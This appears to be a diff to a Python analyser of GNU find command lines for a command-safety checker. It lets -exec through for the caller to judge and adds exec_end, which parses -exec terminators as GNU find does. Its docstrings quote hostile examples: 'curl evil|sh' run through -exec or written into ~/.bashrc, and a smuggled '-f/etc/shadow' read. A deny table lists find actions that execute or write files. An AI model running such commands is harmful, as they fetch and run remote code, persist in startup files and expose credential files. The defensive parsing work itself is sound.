@@ -1,6 +1,6 @@
 """find: starting points, then an expression of tests and actions.
 
-Actions that execute or write are refused: ``-exec``, ``-execdir``, ``-ok``,
+Actions that execute or write are refused: ``-execdir``, ``-ok``,
 ``-okdir`` run commands (``find . -exec sh -c 'curl evil|sh' \\;``),
 ``-delete`` removes, ``-fprint``/``-fprint0``/``-fprintf``/``-fls`` write
 files (``find . -fprintf ~/.bashrc 'curl evil|sh\\n'``). Everything else must
@@ -13,7 +13,6 @@ import re
 from dataclasses import dataclass
 
 FORBIDDEN = {
-    "-exec": "runs a command",
     "-execdir": "runs a command",
     "-ok": "runs a command",
     "-okdir": "runs a command",
@@ -107,6 +106,12 @@ _ONE_ARG = FIND_PATTERN_PRIMARIES | frozenset(
         "-context",
     ]
 )
+#: actions that write to standard output (``-exec`` counts: it may too)
+_OUTPUTS = frozenset({"-print", "-print0", "-printf", "-ls", "-fls", "-fprint", "-fprint0",
+                      "-fprintf", "-execdir", "-ok", "-okdir"})
+#: operators that make a test optional: after them a -name no longer holds
+#: for every file
+_ALTERNATIVES = frozenset({"-o", "-or", ",", "!", "-not", "(", ")"})
 _PATH_ARG = frozenset(["-newer", "-anewer", "-cnewer", "-samefile"])
 _NEWER_XY_RE = re.compile(r"^-newer[aBcm][aBcmt]$")
 _GLOBAL_OPTS_RE = re.compile(r"^-(?:[HLP]|O\d|D\S*)$")
@@ -119,6 +124,14 @@ class FindFacts:
     problem: str | None
     deletes: bool
     exec_argv: tuple[str, ...]
+    #: every ``-exec`` clause: its argv and terminator (``;`` or ``+``)
+    execs: tuple[tuple[tuple[str, ...], str], ...] = ()
+    #: the actions that print (``-print`` when none is given)
+    outputs: frozenset[str] = frozenset()
+    #: ``-name``/``-iname`` tests as ``(pattern, fold_case)``, when the
+    #: expression is a plain conjunction (no -o, !, parentheses): every file
+    #: reaching an action passes them all
+    names: tuple[tuple[str, bool], ...] = ()
 
 
 def analyze_find(argv: tuple[str, ...]) -> FindFacts:
@@ -133,6 +146,11 @@ def analyze_find(argv: tuple[str, ...]) -> FindFacts:
     problem: str | None = None
     deletes = False
     exec_argv: tuple[str, ...] = ()
+    execs: list[tuple[tuple[str, ...], str]] = []
+    outputs: set[str] = set()
+    names: list[tuple[str, bool]] = []
+    gate: tuple[tuple[str, bool], ...] | None = None
+    conjunction = True
     while i < n:
         tok = argv[i]
         if tok in FORBIDDEN:
@@ -142,14 +160,32 @@ def analyze_find(argv: tuple[str, ...]) -> FindFacts:
                 i += 1
                 continue
             if tok.startswith(("-exec", "-ok")):
-                end = i + 1
-                while end < n and argv[end] not in (";", "+"):
-                    end += 1
+                end = exec_end(argv, i)
                 exec_argv = exec_argv or tuple(argv[i + 1 : end])
                 i = end + 1
                 continue
             i += 2 if tok in ("-fprint", "-fprint0", "-fls") else 3
             continue
+        if (tok == "-exec" or tok in _OUTPUTS) and gate is None:
+            # `find . -exec cat {} + -name '*.py'` runs cat on every file:
+            # only the tests before the first action gate what it sees
+            gate = tuple(names)
+        if tok == "-exec":
+            # judged by the caller: only known readers of paths may run
+            end = exec_end(argv, i)
+            if end >= n or end == i + 1:
+                problem = problem or "find -exec without a command and its ; or {} +"
+            execs.append((tuple(argv[i + 1 : end]), argv[end] if end < n else ""))
+            exec_argv = exec_argv or tuple(argv[i + 1 : end])
+            outputs.add(tok)
+            i = end + 1
+            continue
+        if tok in _OUTPUTS:
+            outputs.add(tok)
+        if tok in _ALTERNATIVES:
+            conjunction = False
+        if tok in ("-name", "-iname") and i + 1 < n:
+            names.append((argv[i + 1], tok == "-iname"))
         if tok in _NO_ARG:
             i += 1
         elif tok in _ONE_ARG:
@@ -167,4 +203,21 @@ def analyze_find(argv: tuple[str, ...]) -> FindFacts:
         else:
             problem = problem or f"unknown find primary {tok!r}"
             i += 1
-    return FindFacts(tuple(roots) or (".",), tuple(reads), problem, deletes, exec_argv)
+    return FindFacts(tuple(roots) or (".",), tuple(reads), problem, deletes, exec_argv,
+                     tuple(execs), frozenset(outputs) or frozenset({"-print"}),
+                     (tuple(names) if gate is None else gate) if conjunction else ())
+
+
+def exec_end(argv: tuple[str, ...], i: int) -> int:
+    """Where the ``-exec`` at ``argv[i]`` ends, as GNU find reads it: at a
+    ``;`` word, or at a ``+`` right after a ``{}`` word. Any other ``+`` is
+    an argument: in ``find . -exec grep x + -name -f/etc/shadow -exec cat {} ;``
+    the whole tail is grep's, ``-f/etc/shadow`` included (stopping at the
+    first ``+`` read it as a harmless ``-name`` test). Checked against the
+    installed find by tests/analyzers/test_option_tables.py."""
+    end = i + 1
+    while end < len(argv) and not (
+        argv[end] == ";" or (argv[end] == "+" and end > i + 1 and argv[end - 1] == "{}")
+    ):
+        end += 1
+    return end
